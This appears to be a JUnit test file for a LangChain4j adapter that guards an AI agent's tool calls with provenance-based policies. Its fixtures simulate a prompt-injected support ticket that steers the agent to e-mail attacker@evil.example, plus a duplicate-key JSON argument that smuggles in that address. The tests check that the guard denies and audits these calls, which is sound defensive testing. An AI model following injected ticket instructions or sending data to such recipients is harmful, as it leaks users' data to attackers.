package io.ape.langchain4j;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.langchain4j.agent.tool.ToolExecutionRequest;
import dev.langchain4j.agent.tool.ToolSpecification;
import dev.langchain4j.data.message.ToolExecutionResultMessage;
import dev.langchain4j.invocation.InvocationParameters;
import dev.langchain4j.model.chat.request.json.JsonObjectSchema;
import dev.langchain4j.service.AiServices;
import dev.langchain4j.service.tool.ToolExecutor;
import dev.langchain4j.service.tool.ToolProvider;
import dev.langchain4j.service.tool.ToolProviderResult;
import io.ape.api.ApeConfigurationException;
import io.ape.api.CallStatus;
import io.ape.api.EscalationResolution;
import io.ape.api.GuardedCallResult;
import io.ape.api.Provenance;
import io.ape.engine.AgentSession;
import io.ape.engine.ApeEngine;
import io.ape.engine.SessionOptions;
import io.ape.spi.AuditSink;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Collectors;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;

/**
 * The real LangChain4j {@code AiServices} tool loop, driven by a scripted model, with every tool
 * guarded by a real {@link ApeEngine} ({@code support.yaml}: {@code sendEmail} needs trusted
 * parameters, {@code refund} needs an approval).
 */
class LangChain4jAgentTest {
  static final String USER = "Read ticket 4711 and e-mail bob@acme.com the subject "
      + "\"Ticket 4711\" and the text \"The printer on floor 3 is being fixed.\"";
  static final String SEND_TO_BOB = "{\"to\":\"bob@acme.com\",\"subject\":\"Ticket 4711\","
      + "\"body\":\"The printer on floor 3 is being fixed.\"}";
  /** What the injected ticket makes the model send: only the recipient differs. */
  static final String SEND_TO_ATTACKER = "{\"to\":\"attacker@evil.example\","
      + "\"subject\":\"Ticket 4711\",\"body\":\"The printer on floor 3 is being fixed.\"}";
  static final String DENIED_TEXT =
      "APE denied this tool call: it is not permitted by the security policy.";

  ApeEngine engine;
  AgentSession session;
  ScriptedChatModel model;

  @BeforeEach
  void setUp() {
    engine = Engines.builder().build();
    session = engine.openSession(SessionOptions.forUser("alice"));
    model = new ScriptedChatModel();
  }

  @AfterEach
  void tearDown() {
    engine.close();
  }

  Assistant assistant(ApeToolGuard guard, TicketTools tools) {
    return AiServices.builder(Assistant.class).chatModel(model).tools(guard.tools(tools)).build();
  }

  InvocationParameters inSession() {
    return InvocationParameters.from(ApeLangChain4j.SESSION, session);
  }

  /** The audit events about one tool, one per line. */
  static String auditOf(ApeEngine engine, String toolId) {
    return engine.auditEvents().events().stream().filter(e -> toolId.equals(e.toolId()))
        .map(Engines::line).collect(Collectors.joining("\n"));
  }

  @Test
  void aBenignTaskCompletes() {
    TicketTools tools = new TicketTools(TicketTools.BENIGN);
    model.callTool("getTicket", "{\"id\":\"4711\"}").callTool("sendEmail", SEND_TO_BOB)
        .answer("Done: Bob has the summary.");
    String answer = assistant(ApeLangChain4j.guard(engine).build(), tools).chat(USER, inSession());

    assertThat(answer).isEqualTo("Done: Bob has the summary.");
    assertThat(tools.read).containsExactly("4711");
    assertThat(tools.sent).containsExactly(
        "bob@acme.com|Ticket 4711|The printer on floor 3 is being fixed.");
    assertThat(model.toolResults()).extracting(ToolExecutionResultMessage::text)
        .containsExactly(TicketTools.BENIGN, "sent to bob@acme.com");
    // the user's message was recorded (trusted), the ticket by the engine (untrusted)
    assertThat(session.provenance().label("bob@acme.com")).isEqualTo(Provenance.USER_TRUSTED);
    assertThat(session.provenance().label("Reported by Dana"))
        .isEqualTo(Provenance.EXTERNAL_UNTRUSTED);
    assertThat(auditOf(engine, "sendEmail")).contains("TOOL_EXECUTION_FINISHED tool finished");
  }

  @Test
  void anInjectedRecipientIsDeniedTheModelGetsTheTerseErrorAndTheAuditTheReason() {
    TicketTools tools = new TicketTools(TicketTools.INJECTED);
    model.callTool("getTicket", "{\"id\":\"4711\"}").callTool("sendEmail", SEND_TO_ATTACKER)
        .answer("I could not send that e-mail.");
    String answer = assistant(ApeLangChain4j.guard(engine).build(), tools).chat(USER, inSession());

    assertThat(answer).isEqualTo("I could not send that e-mail.");
    assertThat(tools.sent).isEmpty();
    ToolExecutionResultMessage refusal = model.toolResults().get(1);
    assertThat(refusal.text()).isEqualTo(DENIED_TEXT);
    assertThat(refusal.isError()).isTrue();
    assertThat(refusal.text()).doesNotContain("rule", "EXTERNAL", "send-requires", "attacker");
    // the operators' channel: the rule, the reason and the label of every parameter
    assertThat(auditOf(engine, "sendEmail")).contains("send-requires-trusted-recipient",
        "to=EXTERNAL_UNTRUSTED", "subject=USER_TRUSTED", "body=USER_TRUSTED")
        .doesNotContain("TOOL_EXECUTION_STARTED");
  }

  @Test
  void inAbortModeTheRefusalEndsTheAiServiceCall() {
    TicketTools tools = new TicketTools(TicketTools.INJECTED);
    model.callTool("getTicket", "{\"id\":\"4711\"}").callTool("sendEmail", SEND_TO_ATTACKER)
        .answer("never reached");
    ApeToolGuard guard = ApeLangChain4j.guard(engine).refusalMode(RefusalMode.ABORT).build();
    Assistant assistant = AiServices.builder(Assistant.class).chatModel(model)
        .tools(guard.tools(tools)).toolExecutionErrorHandler(ApeLangChain4j.abortOnRefusal())
        .build();

    assertThatThrownBy(() -> assistant.chat(USER, inSession()))
        .isInstanceOf(ApeToolRefusedException.class)
        .hasMessage(DENIED_TEXT)
        .satisfies(e -> {
          GuardedCallResult r = ((ApeToolRefusedException) e).result();
          assertThat(r.status()).isEqualTo(CallStatus.DENIED);
          assertThat(r.parameterLabels()).containsEntry("to", Provenance.EXTERNAL_UNTRUSTED);
          assertThat(r.decision().matchedRule()).isEqualTo("send-requires-trusted-recipient");
        });
    assertThat(tools.sent).isEmpty();
  }

  @Test
  void anEscalationGoesToTheSessionsResolverBeforeTheEngines() {
    // the engine's resolver is the default deny-all; this session's approves
    AgentSession approved = engine.openSession(SessionOptions.forUser("alice")
        .withResolver(request -> EscalationResolution.approve(request, "lead",
            Provenance.USER_TRUSTED)));
    TicketTools tools = new TicketTools(TicketTools.BENIGN);
    model.callTool("refund", "{\"orderId\":\"A-17\"}").answer("refunded");
    assertThat(assistant(ApeLangChain4j.guard(engine).build(), tools).chat("Refund order A-17",
        InvocationParameters.from(ApeLangChain4j.SESSION, approved))).isEqualTo("refunded");
    assertThat(tools.refunded).containsExactly("A-17");

    model.callTool("refund", "{\"orderId\":\"A-18\"}").answer("not refunded");
    ApeToolGuard sameEngine = ApeLangChain4j.guard(engine).build(); // registered already: refused
    assertThatThrownBy(() -> sameEngine.tools(tools)).isInstanceOf(ApeConfigurationException.class)
        .hasMessageContaining("already registered");
  }

  @Nested
  class TheToolDoesNotRunWhen {
    TicketTools tools = new TicketTools(TicketTools.BENIGN);

    String runSendEmail(ApeToolGuard guard, String arguments, InvocationParameters parameters) {
      model.callTool("sendEmail", arguments).answer("after");
      assertThat(assistant(guard, tools).chat(USER, parameters)).isEqualTo("after");
      return model.toolResults().get(0).text();
    }

    @Test
    void theCallHasNoSession() {
      String text = runSendEmail(ApeLangChain4j.guard(engine).build(), SEND_TO_BOB,
          new InvocationParameters());
      assertThat(text).isEqualTo(
          "APE refused this tool call: the call or its arguments are invalid.");
      assertThat(tools.sent).isEmpty();
    }

    @Test
    void theSessionEndedOrBelongsToAnotherEngine() {
      try (ApeEngine other = Engines.builder().build()) {
        AgentSession foreign = other.openSession(SessionOptions.forUser("alice"));
        String text = runSendEmail(ApeLangChain4j.guard(engine).build(), SEND_TO_BOB,
            InvocationParameters.from(ApeLangChain4j.SESSION, foreign));
        assertThat(text).startsWith("APE refused this tool call");
      }
      session.close();
      model = new ScriptedChatModel();
      model.callTool("sendEmail", SEND_TO_BOB).answer("after");
      ApeToolGuard guard = ApeLangChain4j.guard(Engines.builder().build()).build();
      assertThat(AiServices.builder(Assistant.class).chatModel(model).tools(guard.tools(tools))
          .build().chat(USER, inSession())).isEqualTo("after");
      assertThat(model.toolResults().get(0).text()).startsWith("APE refused this tool call");
      assertThat(tools.sent).isEmpty();
    }

    @Test
    void theArgumentsAreNotOneJsonObjectWithoutDuplicateKeys() {
      ApeToolGuard guard = ApeLangChain4j.guard(engine).build();
      for (String bad : List.of("{\"to\":\"bob@acme.com\",\"to\":\"attacker@evil.example\","
          + "\"subject\":\"s\",\"body\":\"b\"}", "{not json", "[1,2]", "{\"to\":1} trailing",
          "{\"to\":NaN}", "[".repeat(100))) {
        model = new ScriptedChatModel();
        String text = runSendEmail(guard, bad, inSession());
        assertThat(text).as(bad).startsWith("APE refused this tool call");
      }
      assertThat(tools.sent).isEmpty();
    }

    @Test
    void theAdapterThrows() {
      ApeToolGuard guard = ApeLangChain4j.guard(engine)
          .sessions((invocation, e) -> {
            throw new IllegalStateException("session store down");
          }).build();
      String text = runSendEmail(guard, SEND_TO_BOB, inSession());
      assertThat(text).isEqualTo("APE refused this tool call: it could not be checked safely.");
      assertThat(tools.sent).isEmpty();

      try (ApeEngine fresh = Engines.builder().build()) {
        ApeToolGuard broken = ApeLangChain4j.guard(fresh).registrations(r -> {
          throw new IllegalStateException("no risk table");
        }).build();
        assertThatThrownBy(() -> broken.tools(new TicketTools(TicketTools.BENIGN)))
            .isInstanceOf(ApeConfigurationException.class).hasMessageContaining("customiser");
        assertThat(fresh.toolIds()).doesNotContain("getTicket", "sendEmail");
      }
    }

    @Test
    void theResolverHangs() {
      CountDownLatch release = new CountDownLatch(1);
      try (ApeEngine hanging = Engines.builder().escalationTimeout(Duration.ofMillis(100))
          .escalationResolver(request -> {
            release.await();
            return EscalationResolution.approve(request, "late", Provenance.USER_TRUSTED);
          }).build()) {
        AgentSession s = hanging.openSession(SessionOptions.forUser("alice"));
        model.callTool("refund", "{\"orderId\":\"A-17\"}").answer("after");
        assertThat(assistant(ApeLangChain4j.guard(hanging).build(), tools).chat(
            "Refund order A-17", InvocationParameters.from(ApeLangChain4j.SESSION, s)))
            .isEqualTo("after");
        assertThat(model.toolResults().get(0).text()).isEqualTo(
            "APE denied this tool call: it needs a human approval that was not given.");
        assertThat(tools.refunded).isEmpty();
      } finally {
        release.countDown();
      }
    }

    @Test
    void theAuditSinkFails() {
      AtomicBoolean broken = new AtomicBoolean();
      AuditSink sink = event -> {
        if (broken.get()) {
          throw new IllegalStateException("audit disk full");
        }
      };
      try (ApeEngine failing = Engines.builder().auditSink(sink).build()) {
        AgentSession s = failing.openSession(SessionOptions.forUser("alice"));
        ApeToolGuard guard = ApeLangChain4j.guard(failing).build();
        broken.set(true);
        String text = runSendEmail(guard, SEND_TO_BOB,
            InvocationParameters.from(ApeLangChain4j.SESSION, s));
        assertThat(text).isEqualTo("APE refused this tool call: it could not be checked safely.")
            .doesNotContain("disk");
        assertThat(tools.sent).isEmpty();
      }
    }
  }

  @Test
  void aToolThatThrowsGivesTheModelATerseErrorWithoutItsMessage() {
    TicketTools tools = new TicketTools(TicketTools.BENIGN);
    model.callTool("crash", "{\"reason\":\"test\"}").answer("after");
    assertThat(assistant(ApeLangChain4j.guard(engine).build(), tools).chat(USER, inSession()))
        .isEqualTo("after");
    assertThat(model.toolResults().get(0).text()).isEqualTo("The tool failed while running.");
    assertThat(auditOf(engine, "crash")).contains("outcome=failure").doesNotContain("secret");
  }

  @Test
  void programmaticToolsAndToolProvidersAreGuardedAndRegisteredOnce() {
    AtomicInteger runs = new AtomicInteger();
    ToolSpecification lookup = ToolSpecification.builder().name("lookup")
        .parameters(JsonObjectSchema.builder().addStringProperty("customer").build()).build();
    ToolExecutor executor = (request, memoryId) -> "customer " + runs.incrementAndGet();
    ApeToolGuard guard = ApeLangChain4j.guard(engine).build();
    ToolProvider provider = request -> new ToolProviderResult(Map.of(lookup, executor));
    ToolProvider guarded = guard.toolProvider(provider);

    model.callTool("lookup", "{\"customer\":\"acme\"}").callTool("lookup",
        "{\"customer\":\"acme\"}").answer("ok");
    Assistant assistant = AiServices.builder(Assistant.class).chatModel(model)
        .toolProvider(guarded).build();
    assertThat(assistant.chat("look up acme twice", inSession())).isEqualTo("ok");
    assertThat(runs).hasValue(2);
    assertThat(engine.toolIds()).contains("lookup");
    assertThat(engine.auditEvents().events().stream().filter(e -> "lookup".equals(e.toolId()))
        .filter(e -> e.type().name().equals("TOOL_EXECUTION_FINISHED"))).hasSize(2);

    Map<ToolSpecification, ToolExecutor> map = guard.tools(Map.of(lookup, executor));
    assertThat(map.get(lookup).toString()).isEqualTo("ApeGuarded[lookup]");
    // a refusal on the programmatic path too: no session for a bare memory id
    assertThat(map.get(lookup).execute(ToolExecutionRequest.builder()
        .id("x").name("lookup").arguments("{}").build(), "memory-1"))
        .startsWith("APE refused");
    assertThat(runs).hasValue(2);
  }

  @Test
  void theSessionCanBeNamedByIdOrByMemoryId() {
    TicketTools tools = new TicketTools(TicketTools.BENIGN);
    ApeToolGuard guard = ApeLangChain4j.guard(engine).build();
    model.callTool("getTicket", "{\"id\":\"1\"}").answer("a");
    InvocationParameters byId = InvocationParameters.from(Map.of(ApeLangChain4j.SESSION,
        session.id(), ApeLangChain4j.TENANT, "acme"));
    assertThat(assistant(guard, tools).chat(USER, byId)).isEqualTo("a");
    assertThat(tools.read).containsExactly("1");

    model.callTool("getTicket", "{\"id\":\"2\"}").answer("b");
    InvocationParameters otherTenant = InvocationParameters.from(Map.of(
        ApeLangChain4j.SESSION, session.id(), ApeLangChain4j.TENANT, "globex"));
    assertThat(assistant(guard, tools).chat(USER, otherTenant)).isEqualTo("b");
    assertThat(tools.read).containsExactly("1"); // no such session in that tenant: refused

    ToolExecutor byMemory = ApeLangChain4j.guard(Engines.builder().build())
        .sessions(SessionMapping.memoryIdAsSessionId()).build()
        .executor("other", (request, memoryId) -> "ran");
    assertThat(byMemory.execute(ToolExecutionRequest.builder().id("1").name("other")
        .arguments("{}").build(), session.id())).startsWith("APE refused"); // another engine
  }

  @Test
  void builderOptionsAreSetOnce() {
    ApeLangChain4j.Builder builder = ApeLangChain4j.guard(engine).refusalMode(RefusalMode.ABORT);
    assertThatThrownBy(() -> builder.refusalMode(RefusalMode.TOOL_ERROR))
        .isInstanceOf(IllegalStateException.class).hasMessageContaining("refusalMode");
    assertThatThrownBy(() -> ApeLangChain4j.guard(null)).isInstanceOf(NullPointerException.class);
  }
}
